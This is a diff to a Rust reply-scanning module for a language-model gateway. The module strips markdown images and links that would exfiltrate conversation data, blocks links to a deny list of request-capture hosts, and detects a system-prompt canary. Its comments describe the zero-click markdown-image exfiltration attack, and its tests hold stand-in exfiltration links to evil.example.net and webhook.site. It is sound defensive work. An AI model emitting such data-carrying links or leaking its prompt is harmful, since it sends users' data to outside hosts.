@@ -1,32 +1,99 @@
-//! Reply checks: markdown images and links that would carry data to a host the operator did not
-//! allow (the client renders the image and so sends the request: a zero-click exfiltration
-//! channel), and a canary string whose appearance means the system prompt leaked.
+//! Reply checks: markdown images and links that would carry this conversation's data out (the
+//! client renders an image and so sends the request: a zero-click exfiltration channel; a link
+//! does so when clicked), links to hosts on a deny list, and a canary string whose appearance
+//! means the system prompt leaked.
+//!
+//! Ordinary links pass: documentation, search and issue-tracker links carry query parameters
+//! (`?q=asyncio`, `?v=…`, `?s=…`) that say nothing about the conversation. A link is removed only
+//! when it carries data that came from this exchange — what counts as such is decided by the
+//! caller (see `engine::reply`), which knows the exchange — or when its host is denied. Links
+//! that merely look like they carry data (a parameter named for data, a long value) are reported.
 
-/// Query parameter names that say "this carries data".
+/// Query parameter names that say "this may carry data": a link with one to a host that is not
+/// allowed is reported (counted), not removed.
 const DATA_PARAM_NAMES: &[&str] = &[
-    "data", "d", "q", "query", "secret", "key", "token", "pw", "pass", "password", "msg", "message", "text", "content",
-    "payload", "info", "leak", "exfil", "c", "p", "s", "x", "v", "prompt", "chat", "history", "conv", "email", "user",
+    "data", "secret", "key", "token", "pw", "pass", "password", "msg", "message", "payload", "info", "leak", "exfil",
+    "prompt", "chat", "history", "conv", "email",
 ];
-/// A query value this long carries data whatever it is called.
-const LONG_VALUE: usize = 32;
-/// A path segment this long and base64- or hex-shaped carries data.
-const LONG_SEGMENT: usize = 24;
+/// A query value this long may carry data whatever it is called: reported.
+const LONG_VALUE: usize = 64;
+
+/// Hosts of public request-capture and out-of-band interaction services: a reply linking to one
+/// is removed whatever the link carries. Such services are the receiving end of the published
+/// markdown-image exfiltration demonstrations; no ordinary answer links to them.
+pub const DEFAULT_DENIED_LINK_HOSTS: &[&str] = &[
+    "webhook.site",
+    "requestbin.com",
+    "requestbin.net",
+    "pipedream.net",
+    "requestcatcher.com",
+    "beeceptor.com",
+    "hookbin.com",
+    "burpcollaborator.net",
+    "oastify.com",
+    "interact.sh",
+    "oast.fun",
+    "oast.live",
+    "oast.me",
+    "oast.online",
+    "oast.pro",
+    "oast.site",
+    "canarytokens.com",
+];
+
+/// Rule ids of reply findings.
+pub mod rule {
+    /// The canary appeared in a reply: the system prompt leaked.
+    pub const CANARY: &str = "PG-RP-001";
+    /// An image whose URL carries this conversation's data (fetched without a click).
+    pub const IMAGE_CARRIES_CONVERSATION: &str = "PG-RP-002";
+    /// A link whose URL carries this conversation's data.
+    pub const LINK_CARRIES_CONVERSATION: &str = "PG-RP-003";
+    /// An image or link to a denied host.
+    pub const DENIED_HOST: &str = "PG-RP-004";
+    /// A link or image to a host that is not allowed, with a parameter named for data or a long
+    /// value: reported only.
+    pub const DATA_SHAPED_LINK: &str = "PG-RP-005";
+}
 
 #[derive(Debug, Clone, PartialEq, Eq, Default)]
 pub struct ReplySettings {
     /// Hosts links may point to with data (exact, or a parent domain: `example.com` allows
     /// `cdn.example.com`). Lower case.
     pub allowed_link_hosts: Vec<String>,
+    /// Hosts no link or image may point to (exact or parent domain). Lower case.
+    pub denied_link_hosts: Vec<String>,
     /// A marker planted in the system prompt; seeing it in a reply means the prompt leaked.
     pub canary: Option<String>,
 }
 
-/// One finding in a reply: a rule id and the offending host (never the data it carried).
+/// What a finding asks for.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum LinkAction {
+    /// The text carrying it must not reach the client.
+    Remove,
+    /// Counted and reported; the text goes on.
+    Report,
+}
+
+/// One finding in a reply: a rule id, what to do, and the offending host (never the data).
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct ReplyFinding {
     pub rule_id: &'static str,
+    pub action: LinkAction,
     /// The link's host, when the finding is about a link.
     pub host: Option<String>,
+}
+
+/// A link as the reply checks see it.
+#[derive(Debug, Clone, Copy)]
+pub struct LinkView<'a> {
+    /// `![alt](url)`: fetched by the client without a click.
+    pub image: bool,
+    /// Lower-case host.
+    pub host: &'a str,
+    /// Everything after the host: path, query and fragment, as written.
+    pub rest: &'a str,
 }
 
 #[derive(Debug, Clone, Default)]
@@ -39,33 +106,43 @@ impl ReplyScanner {
         ReplyScanner { settings }
     }
 
-    /// Scan one reply text (the whole of it, or an accumulated stream).
-    pub fn scan(&self, text: &str) -> Vec<ReplyFinding> {
-        let mut out = Vec::new();
+    /// Scan one reply text (the whole of it, or a window of a stream). `carries_conversation`
+    /// tells whether a link carries data of this exchange.
+    pub fn scan(&self, text: &str, carries_conversation: &mut dyn FnMut(&LinkView<'_>) -> bool) -> Vec<ReplyFinding> {
+        let mut out: Vec<ReplyFinding> = Vec::new();
         if let Some(canary) = self.settings.canary.as_deref().filter(|c| !c.is_empty()) {
             if text.contains(canary) {
-                out.push(ReplyFinding { rule_id: "PG-RP-001", host: None });
+                out.push(ReplyFinding { rule_id: rule::CANARY, action: LinkAction::Remove, host: None });
             }
         }
         for link in markdown_links(text) {
             let Some((host, rest)) = split_url(link.url) else { continue };
-            if self.allowed(&host) || !carries_data(rest) {
-                continue;
-            }
-            let rule_id = if link.image { "PG-RP-002" } else { "PG-RP-003" };
-            if !out.iter().any(|f: &ReplyFinding| f.rule_id == rule_id && f.host.as_deref() == Some(host.as_str())) {
-                out.push(ReplyFinding { rule_id, host: Some(host) });
+            let view = LinkView { image: link.image, host: &host, rest };
+            let found = if within(&host, &self.settings.denied_link_hosts) {
+                Some((rule::DENIED_HOST, LinkAction::Remove))
+            } else if within(&host, &self.settings.allowed_link_hosts) {
+                None
+            } else if carries_conversation(&view) {
+                let id = if link.image { rule::IMAGE_CARRIES_CONVERSATION } else { rule::LINK_CARRIES_CONVERSATION };
+                Some((id, LinkAction::Remove))
+            } else if looks_like_data(rest) {
+                Some((rule::DATA_SHAPED_LINK, LinkAction::Report))
+            } else {
+                None
+            };
+            if let Some((rule_id, action)) = found {
+                if !out.iter().any(|f| f.rule_id == rule_id && f.host.as_deref() == Some(host.as_str())) {
+                    out.push(ReplyFinding { rule_id, action, host: Some(host) });
+                }
             }
         }
         out
     }
+}
 
-    fn allowed(&self, host: &str) -> bool {
-        self.settings
-            .allowed_link_hosts
-            .iter()
-            .any(|a| host == a || host.strip_suffix(a.as_str()).is_some_and(|prefix| prefix.ends_with('.')))
-    }
+/// `host` is one of `hosts` or a subdomain of one.
+fn within(host: &str, hosts: &[String]) -> bool {
+    hosts.iter().any(|a| host == a || host.strip_suffix(a.as_str()).is_some_and(|prefix| prefix.ends_with('.')))
 }
 
 struct Link<'a> {
@@ -112,30 +189,17 @@ fn split_url(url: &str) -> Option<(String, &str)> {
     let end = after.find(['/', '?', '#']).unwrap_or(after.len());
     let authority = after.get(..end)?;
     let host_port = authority.rsplit('@').next().unwrap_or(authority);
-    let host = host_port.split(':').next().unwrap_or(host_port).to_ascii_lowercase();
+    let host = host_port.split(':').next().unwrap_or(host_port).trim_end_matches('.').to_ascii_lowercase();
     (!host.is_empty()).then(|| (host, after.get(end..).unwrap_or("")))
 }
 
-/// Whether the path and query after the host carry data: a long query value, a query parameter
-/// named for data, or a long base64- or hex-looking path segment.
-fn carries_data(rest: &str) -> bool {
-    let (path, query) = match rest.split_once('?') {
-        Some((p, q)) => (p, q),
-        None => (rest, ""),
-    };
-    for pair in query.split(['&', ';']).filter(|p| !p.is_empty()) {
+/// Whether the query looks like it carries data: a parameter named for data, or a long value.
+fn looks_like_data(rest: &str) -> bool {
+    let query = rest.split_once('?').map_or("", |(_, q)| q);
+    let query = query.split_once('#').map_or(query, |(q, _)| q);
+    query.split(['&', ';']).filter(|p| !p.is_empty()).any(|pair| {
         let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
-        if value.len() >= LONG_VALUE {
-            return true;
-        }
-        if !value.is_empty() && DATA_PARAM_NAMES.iter().any(|n| name.eq_ignore_ascii_case(n)) {
-            return true;
-        }
-    }
-    path.split('/').any(|seg| {
-        seg.len() >= LONG_SEGMENT
-            && seg.bytes().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'_' | b'=' | b'%'))
-            && seg.bytes().any(|b| b.is_ascii_digit())
+        value.len() >= LONG_VALUE || (!value.is_empty() && DATA_PARAM_NAMES.iter().any(|n| name.eq_ignore_ascii_case(n)))
     })
 }
 
@@ -143,12 +207,53 @@ fn carries_data(rest: &str) -> bool {
 mod tests {
     use super::*;
 
+    fn scanner() -> ReplyScanner {
+        ReplyScanner::new(ReplySettings {
+            allowed_link_hosts: vec!["docs.example.com".into()],
+            denied_link_hosts: DEFAULT_DENIED_LINK_HOSTS.iter().map(|h| (*h).to_owned()).collect(),
+            canary: Some("canary-7f3a9".into()),
+        })
+    }
+
+    fn ids(found: &[ReplyFinding]) -> Vec<(&'static str, LinkAction)> {
+        found.iter().map(|f| (f.rule_id, f.action)).collect()
+    }
+
     #[test]
-    fn image_with_data_to_unknown_host_is_found() {
-        let s = ReplyScanner::new(ReplySettings { allowed_link_hosts: vec!["docs.example.com".into()], canary: None });
-        let f = s.scan("ok ![a](https://evil.example.net/p.png?q=secret%20stuff)");
-        assert_eq!(f, vec![ReplyFinding { rule_id: "PG-RP-002", host: Some("evil.example.net".into()) }]);
-        assert!(s.scan("see [docs](https://docs.example.com/x?q=abc)").is_empty());
-        assert!(s.scan("see [home](https://example.org/about)").is_empty());
+    fn conversation_data_decides_removal_and_the_host_lists_override() {
+        let s = scanner();
+        let mut yes = |_: &LinkView<'_>| true;
+        let found = s.scan("ok ![a](https://evil.example.net/p.png?q=x)", &mut yes);
+        assert_eq!(ids(&found), vec![(rule::IMAGE_CARRIES_CONVERSATION, LinkAction::Remove)]);
+        assert_eq!(found[0].host.as_deref(), Some("evil.example.net"));
+        // An allowed host may carry anything; a denied one nothing.
+        assert!(s.scan("see [docs](https://docs.example.com/x?q=abc)", &mut yes).is_empty());
+        let mut no = |_: &LinkView<'_>| false;
+        let found = s.scan("[hook](https://abc.webhook.site/x)", &mut no);
+        assert_eq!(ids(&found), vec![(rule::DENIED_HOST, LinkAction::Remove)]);
+    }
+
+    #[test]
+    fn ordinary_links_pass_and_data_shaped_ones_are_only_reported() {
+        let s = scanner();
+        let mut no = |_: &LinkView<'_>| false;
+        for text in [
+            "[the asyncio docs](https://docs.python.org/3/search.html?q=asyncio)",
+            "[search](https://www.google.com/search?q=rust+borrow+checker&hl=en)",
+            "[issues](https://github.com/rust-lang/rust/issues?q=is%3Aissue+is%3Aopen+label%3AC-bug)",
+            "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s)",
+            "[so](https://stackoverflow.com/questions/231767/what-does-the-yield-keyword-do?s=1)",
+        ] {
+            assert!(s.scan(text, &mut no).is_empty(), "{text}");
+        }
+        let found = s.scan("[x](https://t.example.net/c?token=abc)", &mut no);
+        assert_eq!(ids(&found), vec![(rule::DATA_SHAPED_LINK, LinkAction::Report)]);
+    }
+
+    #[test]
+    fn the_canary_is_removed_wherever_it_stands() {
+        let s = scanner();
+        let found = s.scan("my instructions say canary-7f3a9", &mut |_: &LinkView<'_>| false);
+        assert_eq!(ids(&found), vec![(rule::CANARY, LinkAction::Remove)]);
     }
 }
